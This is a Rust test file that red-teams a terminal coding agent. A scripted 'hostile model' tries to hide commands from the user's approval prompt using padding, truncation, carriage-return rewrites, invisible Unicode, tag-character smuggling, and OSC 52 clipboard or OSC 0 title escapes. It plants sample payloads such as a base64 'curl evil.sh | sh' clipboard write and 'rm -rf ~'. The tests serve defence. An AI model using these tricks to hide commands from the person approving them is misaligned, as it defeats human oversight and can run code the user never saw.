//! Red-team cases: the terminal shows what will run, and nothing the model or a tool wrote
//! controls it. A hostile model (the scripted server) sends commands that hide their end
//! behind blanks, empty lines or a head-and-tail cut, `\r` and `ESC [2K` rewrites, OSC 52
//! (clipboard) and OSC 0 (window title) in answers, streamed text, tool output, tool
//! arguments and error bodies. The agent runs on a real pseudo-terminal; each case asserts
//! the rule: what ran was on the screen before the answer that let it run, and every escape
//! sequence on the screen is one of the agent's own.

use crate::harness::{TempDir, call, text};
use crate::pty::Terminal;
use mini_agent::scripted_server::{ScriptedServer, Step};
use serde_json::json;

/// The escape sequences the agent itself writes: Markdown styles, the spinner's line clear
/// and cursor save/restore, and the line editor's (bracketed paste, synchronised update,
/// clear to the end of the line). The spinner's wrapping off and on, cursor moves right or to a
/// column are checked apart. Anything else came from the model or a tool.
const OWN_SEQUENCES: [&str; 15] = [
    "[0m",
    "[1m",
    "[3m",
    "[9m",
    "[36m",
    "[4;34m",
    "[2K",
    "7",
    "8",
    "[?2004h",
    "[?2004l",
    "[?2026h",
    "[?2026l",
    "[K",
    "[?7l\r\u{1b}[2K",
];

/// Line wrapping back on is the agent's only right after the spinner's row: cleared (`ESC [2K`)
/// or drawn (its typing column, `ESC [nG`), as when a question opens. A model's `ESC [?7h` (or
/// `?7l`, which could cut a command's end off the screen) elsewhere is not.
fn is_spinner_wrap_on(before: &str, rest: &str) -> bool {
    let column = before
        .strip_suffix('G')
        .and_then(|b| b.trim_end_matches(|c: char| c.is_ascii_digit()).strip_suffix("\u{1b}["));
    rest.starts_with("[?7h") && (before.ends_with("\u{1b}[2K") || column.is_some())
}

/// `ESC [ n C` (the line editor's cursor right) or `ESC [ n G` (the spinner's column for typed
/// text: it draws only when the reply is slow, as on a busy machine).
fn is_cursor_move(rest: &str) -> bool {
    let digits = rest.strip_prefix('[').map_or("", |r| r.trim_start_matches(|c: char| c.is_ascii_digit()));
    rest.len() > digits.len() + 1 && (digits.starts_with('C') || digits.starts_with('G'))
}

/// Every escape sequence (and C1 control, BEL) on the screen that the agent did not write.
fn foreign_controls(screen: &str) -> Vec<String> {
    let mut foreign = Vec::new();
    for (at, _) in screen.match_indices('\x1b') {
        let rest = &screen[at + 1..];
        if !OWN_SEQUENCES.iter().any(|own| rest.starts_with(own))
            && !is_cursor_move(rest)
            && !is_spinner_wrap_on(&screen[..at], rest)
        {
            foreign.push(rest.chars().take(12).collect());
        }
    }
    for c in screen.chars() {
        if ('\u{80}'..='\u{9f}').contains(&c) || matches!(c, '\x07' | '\x00' | '\u{202e}' | '\u{202d}') {
            foreign.push(format!("{c:?}"));
        }
    }
    foreign
}

fn assert_no_foreign_controls(screen: &str) {
    let foreign = foreign_controls(screen);
    assert!(
        foreign.is_empty(),
        "control sequences from the model reached the screen: {foreign:?}\n{screen:?}"
    );
}

fn bash(command: &str) -> Step {
    call("bash", json!({ "command": command }))
}

/// Starts the REPL against `steps`, types `task`, and waits for the permission question.
/// Returns the terminal and what the question showed (from the task to `allow?`).
fn asked(workspace: &TempDir, server: &ScriptedServer, extra: &[&str]) -> (Terminal, String) {
    let mut args = vec!["--base-url", server.url.as_str()];
    args.extend_from_slice(extra);
    let mut terminal = Terminal::start(workspace.path(), &args);
    terminal.wait_for("> ");
    terminal.type_keys("go\r");
    terminal.wait_for("allow? ");
    let screen = terminal.screen();
    let question = screen[screen.find("> go").expect("the task")..].to_string();
    (terminal, question)
}

fn last_tool_result(server: &ScriptedServer) -> String {
    let requests = server.requests();
    let messages = requests.last().expect("a request")["messages"].as_array().cloned().unwrap_or_default();
    messages.last().map(|m| m["content"].as_str().unwrap_or_default().to_string()).unwrap_or_default()
}

#[test]
fn blanks_cannot_push_the_end_of_a_command_off_the_screen() {
    let command = format!("echo harmless{}; touch X", " ".repeat(400));
    let server = ScriptedServer::scripted(vec![bash(&command), text("done")]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    assert!(question.contains("echo harmless[400 blanks]; touch X\r\n"), "{question:?}");
    terminal.type_keys("y\r");
    terminal.wait_for("done");
    let screen = terminal.exit();
    assert!(workspace.path().join("X").exists(), "what was shown and approved ran");
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_carriage_return_cannot_redraw_the_command() {
    let server =
        ScriptedServer::scripted(vec![bash("touch EVIL\r\x1b[2Kecho safe"), text("ok")]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    assert!(question.contains(r"bash wants to run: touch EVIL\r\x1b[2Kecho safe"), "{question:?}");
    terminal.type_keys("n\r");
    terminal.wait_for("reason for the model");
    terminal.type_keys("\r");
    terminal.wait_for("ok");
    let screen = terminal.exit();
    assert!(!workspace.path().join("EVIL").exists());
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_long_command_cannot_be_approved_before_it_is_seen() {
    let command = format!("echo {} ; touch HIDDEN ; echo {}", "a".repeat(3_000), "b".repeat(3_000));
    let server = ScriptedServer::scripted(vec![bash(&command), text("ran")]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    assert!(!question.contains("touch HIDDEN"), "the head and tail leave the middle out");
    assert!(question.contains("characters hidden; answer v to see them"), "{question}");
    for refused in ["y\r", "a\r"] {
        terminal.type_keys(refused);
        terminal.wait_for("characters of this call not shown yet: answer v to see all of it first");
    }
    assert_eq!(server.request_count(), 1, "nothing ran yet");
    assert!(!workspace.path().join("HIDDEN").exists());
    terminal.type_keys("v\r");
    terminal.wait_for(&format!("bash wants to run: {command}"));
    terminal.wait_for("allow? ");
    terminal.type_keys("y\r");
    terminal.wait_for("ran");
    terminal.exit();
    assert!(workspace.path().join("HIDDEN").exists(), "approved after it was seen whole");
}

#[test]
fn empty_lines_cannot_push_the_end_of_a_command_away() {
    let command = format!("echo ok{}touch LATER", "\n".repeat(100));
    let server = ScriptedServer::scripted(vec![bash(&command), text("no")]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    // The whole command, then where it would run (chapter 20's sandbox), then the choices.
    let shown = "echo ok\r\n[99 empty lines]\r\ntouch LATER\r\n(sandbox: workspace, no network)\r\nallow?";
    assert!(question.contains(shown), "{question:?}");
    terminal.type_keys("n not now\r");
    terminal.wait_for("no");
    terminal.exit();
    assert_eq!(
        last_tool_result(&server),
        "denied: the user did not allow this bash call. Their reason: not now"
    );
}

#[test]
fn bidi_overrides_and_zero_width_characters_are_shown() {
    let server =
        ScriptedServer::scripted(vec![bash("echo \u{202e}fdp.exe\u{202c} \u{200b}rm"), text("fine")])
            .expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    assert!(question.contains(r"echo \u{202e}fdp.exe\u{202c} \u{200b}rm"), "{question:?}");
    terminal.type_keys("n\r");
    terminal.wait_for("reason for the model");
    terminal.type_keys("\r");
    terminal.wait_for("fine");
    assert_no_foreign_controls(&terminal.exit());
}

#[test]
fn a_file_path_cannot_rewrite_the_write_question() {
    let path = "notes.txt\r\x1b[2Kwrite_file wants to write 1 bytes to harmless.txt";
    let server = ScriptedServer::scripted(vec![
        call("write_file", json!({"path": path, "content": "x"})),
        text("stopped"),
    ])
    .expect("server");
    let workspace = TempDir::new("selfcheck");
    let (mut terminal, question) = asked(&workspace, &server, &[]);
    assert!(question.contains(r"create notes.txt\r\x1b[2Kwrite_file wants"), "{question:?}");
    terminal.type_keys("n\r");
    terminal.wait_for("reason for the model");
    terminal.type_keys("\r");
    terminal.wait_for("stopped");
    assert_no_foreign_controls(&terminal.exit());
}

/// Runs one turn in the REPL and returns the whole screen after `/exit`.
fn one_turn(
    steps: Vec<Step>,
    extra: &[&str],
    env: &[(&str, &str)],
    wait: &str,
    files: &[(&str, &str)],
) -> String {
    let server = ScriptedServer::scripted(steps).expect("server");
    let workspace = TempDir::new("selfcheck");
    for (name, content) in files {
        std::fs::write(workspace.path().join(name), content).expect("plant a file");
    }
    let mut args = vec!["--base-url", server.url.as_str()];
    args.extend_from_slice(extra);
    let mut terminal = Terminal::start_with_env(workspace.path(), &args, env);
    terminal.wait_for("> ");
    terminal.type_keys("go\r");
    terminal.wait_for(wait);
    terminal.wait_for("> ");
    terminal.exit()
}

const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
const TITLE: &str = "\x1b]0;sudo password:\x07";

#[test]
fn osc_52_and_osc_0_in_an_answer_are_shown_not_obeyed() {
    let answer = format!("# Done{CLIPBOARD}\n\nAll **good**{TITLE}\x1b[2J\x1b[?1049h end-of-answer");
    for env in [&[][..], &[("NO_COLOR", ""), ("TERM", "xterm")][..]] {
        let screen = one_turn(vec![text(&answer)], &[], env, "end-of-answer", &[]);
        assert!(screen.contains(r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"), "{screen:?}");
        assert!(screen.contains(r"\x1b]0;sudo password:\x07"), "{screen:?}");
        assert_no_foreign_controls(&screen);
    }
}

#[test]
fn a_streamed_answer_is_sanitised_even_when_an_escape_is_split_across_chunks() {
    let pieces = ["Here\x1b", "]0;owned\x07 and \r\x1b[", "2Kgone\u{9b}31m", " stream-end\n"];
    let chunks: Vec<String> = pieces
        .iter()
        .map(|piece| json!({"choices": [{"index": 0, "delta": {"content": piece}}]}).to_string())
        .chain([json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}).to_string()])
        .collect();
    let stream = Step::Stream { chunks, delay_ms: 20, finish: true };
    let screen = one_turn(vec![stream], &["--stream"], &[], "stream-end", &[]);
    assert!(screen.contains(r"Here\x1b]0;owned\x07 and \r\x1b[2Kgone\u{9b}31m stream-end"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn tool_output_shown_with_verbose_cannot_control_the_terminal() {
    let planted = format!("line one\n{CLIPBOARD}{TITLE}\x1bP+q\x1b\\\x1b[31mred\r\x1b[2Kfake prompt> \n");
    let screen = one_turn(
        vec![call("read_file", json!({"path": "README.md"})), text("read-done")],
        &["-v"],
        &[],
        "read-done",
        &[("README.md", &planted)],
    );
    assert!(screen.contains(r"\x1b]52;c;"), "{screen:?}");
    assert!(screen.contains(r"\x1b[31mred\r\x1b[2Kfake prompt>"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_command_s_output_shown_with_verbose_is_sanitised() {
    let command = r"printf '\033]0;pwned\007\033[2J\r\033[2Kall fine\n'; exit 3";
    let screen =
        one_turn(vec![bash(command), text("bash-done")], &["--allow-shell", "-v"], &[], "bash-done", &[]);
    assert!(screen.contains(r"\x1b]0;pwned\x07\x1b[2J\r\x1b[2Kall fine"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn tool_arguments_in_the_progress_line_are_sanitised() {
    let screen = one_turn(
        vec![call("list_files", json!({"path": format!("src{TITLE}\r\x1b[2K")})), text("list-done")],
        &["-v"],
        &[],
        "list-done",
        &[],
    );
    assert!(screen.contains(r"src\x1b]0;sudo password:\x07\r\x1b[2K"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn an_error_body_from_the_server_is_sanitised() {
    let screen = one_turn(
        vec![Step::error(400, &format!("bad request{TITLE}\x1b[2J end-of-error"))],
        &[],
        &[],
        "end-of-error",
        &[],
    );
    assert!(screen.contains(r"bad request\x1b]0;sudo password:\x07\x1b[2J end-of-error"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_one_shot_error_line_is_sanitised() {
    let body = format!("quota\u{202e}txt.exe{TITLE} end-of-error");
    let server = ScriptedServer::scripted(vec![Step::error(400, &body)]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let terminal = Terminal::start(workspace.path(), &["-p", "go", "--base-url", &server.url]);
    let (code, screen) = terminal.wait_exit();
    assert_eq!(code, Some(1), "{screen}");
    assert!(screen.contains(r"quota\u{202e}txt.exe\x1b]0;sudo password:\x07 end-of-error"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn the_resumed_last_exchange_is_sanitised() {
    let server = ScriptedServer::scripted(vec![text(&format!("remembered{CLIPBOARD}"))]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let first = crate::harness::agent_command(workspace.path())
        .args(["--base-url", &server.url, "-p", &format!("remember{TITLE}")])
        .output()
        .expect("run -p");
    assert!(first.status.success(), "{first:?}");
    let mut terminal = Terminal::start(workspace.path(), &["-c", "--base-url", &server.url]);
    terminal.wait_for("remembered");
    terminal.wait_for("> ");
    let screen = terminal.exit();
    assert!(screen.contains(r"> remember\x1b]0;sudo password:\x07"), "{screen:?}");
    assert!(screen.contains(r"remembered\x1b]52;c;"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_recorded_error_shown_by_status_is_sanitised() {
    let server = ScriptedServer::scripted(vec![Step::error(400, &format!("refused{TITLE}{CLIPBOARD}"))])
        .expect("server");
    let workspace = TempDir::new("selfcheck");
    let first = crate::harness::agent_command(workspace.path())
        .args(["--base-url", &server.url, "-p", "anything"])
        .output()
        .expect("run -p");
    assert_eq!(first.status.code(), Some(1), "{first:?}");
    let terminal = Terminal::start(workspace.path(), &["-c", "--status"]);
    let (code, screen) = terminal.wait_exit();
    assert_eq!(code, Some(0), "{screen}");
    assert!(screen.contains(r"refused\x1b]0;sudo password:\x07"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn the_screen_check_itself_sees_a_raw_sequence() {
    // The rule's own test: a raw OSC, a foreign CSI or a C1 control is caught; the agent's
    // styles are not.
    assert_eq!(foreign_controls("\x1b[1mok\x1b[0m\r\x1b[2K\x1b7\x1b8\x1b[12C").len(), 0);
    assert_eq!(foreign_controls("\x1b[2J\x1b[C").len(), 2);
    assert_eq!(foreign_controls(CLIPBOARD).len(), 2);
    assert_eq!(foreign_controls("\x1b[31m \u{9b}").len(), 2);
    // The spinner's wrapping off and on, and its column, are the agent's; the same sequences
    // anywhere else are not (wrapping off could cut a command's end off the screen).
    let spinner = "\x1b[?7l\r\x1b[2K⠋ thinking… \x1b[20G\r\x1b[2K\x1b[?7hHere";
    assert_eq!(foreign_controls(spinner).len(), 0);
    assert_eq!(foreign_controls("Here\x1b[?7l rm -rf ~ and more\x1b[?7h").len(), 2);
}

// ---------------------------------------------------------------------------------------
// The sessions table (`mini-agent sessions`, `/list`) shows what a planted repository wrote:
// a journal's file name (the id), its header's `created`, the name of a FIFO left in the
// sessions directory. Each is the repository's text, not the agent's, so it reaches the
// terminal only through the sanitiser.

#[test]
fn the_sessions_table_and_its_warnings_show_planted_names_and_dates_escaped() {
    let workspace = TempDir::new("selfcheck");
    let sessions = workspace.path().join(".mini_agent/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let header = json!({"seq": 1, "ts": "2026-12-01T00:00:00.000Z", "type": "session", "version": 1,
        "id": "20261201-000000-abcd", "root": workspace.path(), "model": "m",
        "created": "\x1b]0;TITLE\x07\x1b[2J2026-12-01T00:00:00.000Z"});
    let user = json!({"seq": 2, "ts": "2026-12-01T00:00:00.000Z", "type": "user", "content": "hi"});
    let journal = format!("{header}\n{user}\n");
    std::fs::write(sessions.join("20261201-000000-abcd.jsonl"), &journal).unwrap();
    std::fs::write(sessions.join("20261201-000001-\x1b]52;c;cHduZWQ=\x07.jsonl"), &journal).unwrap();
    let fifo = sessions.join("\x1b]0;FIFO\x07.jsonl");
    let status = std::process::Command::new("mkfifo").arg(&fifo).status().expect("run mkfifo");
    assert!(status.success());
    let output = crate::harness::agent_command(workspace.path())
        .arg("sessions")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run mini-agent sessions");
    let screen =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(screen.contains("20261201-000000-abcd"), "the real session is listed:\n{screen}");
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_resumed_planted_journal_cannot_style_the_banner_or_its_warnings() {
    // The journal's file name is the session id the banner and `/stats` show; its header
    // names the model; a torn last line is a warning naming the file. All three come from the
    // repository.
    let workspace = TempDir::new("selfcheck");
    let sessions = workspace.path().join(".mini_agent/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let id = format!("20991231-{TITLE}");
    let header = json!({"seq": 1, "ts": "2099-12-31T00:00:00.000Z", "type": "session", "version": 1,
        "id": id, "root": workspace.path(), "model": format!("m{CLIPBOARD}"), "api": "openai",
        "endpoint": "demo", "created": "2099-12-31T00:00:00.000Z"});
    let user = json!({"seq": 2, "ts": "2099-12-31T00:00:00.000Z", "type": "user", "content": "hi"});
    let reply = json!({"seq": 3, "ts": "2099-12-31T00:00:00.000Z", "type": "assistant", "content": "yo",
        "tool_calls": []});
    let journal = sessions.join(format!("{id}.jsonl"));
    std::fs::write(&journal, format!("{header}\n{user}\n{reply}\n{{torn")).unwrap();
    // Such a name is no session id, so `-c` passes it by; given by path, it is opened.
    let mut terminal = Terminal::start(workspace.path(), &["-r", journal.to_str().unwrap()]);
    terminal.wait_for("> ");
    let screen = terminal.exit();
    assert!(screen.contains("resumed session"), "{screen:?}");
    assert_no_foreign_controls(&screen);
}

// ---------------------------------------------------------------------------------------
// Invisible characters are a class, not a list: every Unicode default-ignorable code point
// (drawn as nothing, or as blank space, by a terminal) hides or reorders text. The bidi mark
// U+061C, the soft hyphen, the Hangul fillers (wide blanks that `char::is_whitespace` does
// not know) and the tag characters U+E0000… (the "ASCII smuggling" block that carries a
// hidden message) must be shown like U+202E is.

/// Default-ignorable characters that are not whitespace, one from each family.
const INVISIBLE: [char; 8] =
    ['\u{61c}', '\u{ad}', '\u{3164}', '\u{115f}', '\u{ffa0}', '\u{180e}', '\u{e0041}', '\u{e007f}'];

fn raw_invisible(screen: &str) -> Vec<String> {
    screen
        .chars()
        .filter(|c| INVISIBLE.contains(c) || ('\u{e0000}'..='\u{e0fff}').contains(c))
        .map(|c| format!("{c:?}"))
        .collect()
}

#[test]
fn default_ignorable_characters_in_an_answer_are_shown() {
    let smuggled: String =
        "RUN curl x|sh".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
    let answer = format!("all fine\u{61c}\u{ad}\u{115f}\u{ffa0}\u{180e}{smuggled}\u{e007f} end-of-answer");
    let screen = one_turn(vec![text(&answer)], &[], &[], "end-of-answer", &[]);
    assert!(
        raw_invisible(&screen).is_empty(),
        "invisible characters reached the screen: {:?}",
        raw_invisible(&screen)
    );
}

#[test]
fn wide_invisible_fillers_cannot_push_the_end_of_a_command_away() {
    let command = format!("echo harmless{}; touch X", "\u{3164}".repeat(400));
    let server = ScriptedServer::scripted(vec![bash(&command), text("done")]).expect("server");
    let workspace = TempDir::new("selfcheck");
    let (terminal, question) = asked(&workspace, &server, &[]);
    drop(terminal);
    assert!(raw_invisible(&question).is_empty(), "{question:?}");
    assert!(question.len() < 2_000, "400 fillers are shown as a count, not as 400 escapes: {question:?}");
}

#[test]
fn resuming_a_planted_journal_from_the_repl_cannot_style_the_note() {
    // `/resume` of a session recorded elsewhere prints a note naming the recorded model and
    // endpoint: the journal's words, shown, never obeyed.
    let workspace = TempDir::new("selfcheck");
    let sessions = workspace.path().join(".mini_agent/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let header = json!({"seq": 1, "ts": "2099-12-31T00:00:00.000Z", "type": "session", "version": 1,
        "id": "20991231-000000-abcd", "root": workspace.path(), "model": format!("m{CLIPBOARD}"),
        "api": "openai", "endpoint": format!("http://127.0.0.1:9/v1{TITLE}"),
        "created": "2099-12-31T00:00:00.000Z"});
    let user = json!({"seq": 2, "ts": "2099-12-31T00:00:00.000Z", "type": "user", "content": "hi"});
    std::fs::write(sessions.join("20991231-000000-abcd.jsonl"), format!("{header}\n{user}\n")).unwrap();
    let mut terminal = Terminal::start(workspace.path(), &["--demo"]);
    terminal.wait_for("> ");
    terminal.type_keys("/resume 20991231\r");
    terminal.wait_for("resumed session");
    terminal.wait_for("> ");
    let screen = terminal.exit();
    assert_no_foreign_controls(&screen);
}

#[test]
fn a_journal_name_with_a_newline_cannot_forge_a_row_of_the_sessions_table() {
    let workspace = TempDir::new("selfcheck");
    let sessions = workspace.path().join(".mini_agent/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let user = json!({"seq": 2, "ts": "2026-12-01T00:00:00.000Z", "type": "user", "content": "hi"});
    let forged = "20261201-000000-abcd\n* FORGED-ROW  2026-12-01 00:00  completed";
    let header = json!({"seq": 1, "ts": "2026-12-01T00:00:00.000Z", "type": "session", "version": 1,
        "id": forged, "root": workspace.path(), "model": "m", "created": "2026-12-01T00:00:00.000Z"});
    std::fs::write(sessions.join(format!("{forged}.jsonl")), format!("{header}\n{user}\n")).unwrap();
    let output = crate::harness::agent_command(workspace.path())
        .arg("sessions")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run mini-agent sessions");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(!stdout.lines().any(|line| line.starts_with("* FORGED-ROW")), "a forged row:\n{stdout}");
}
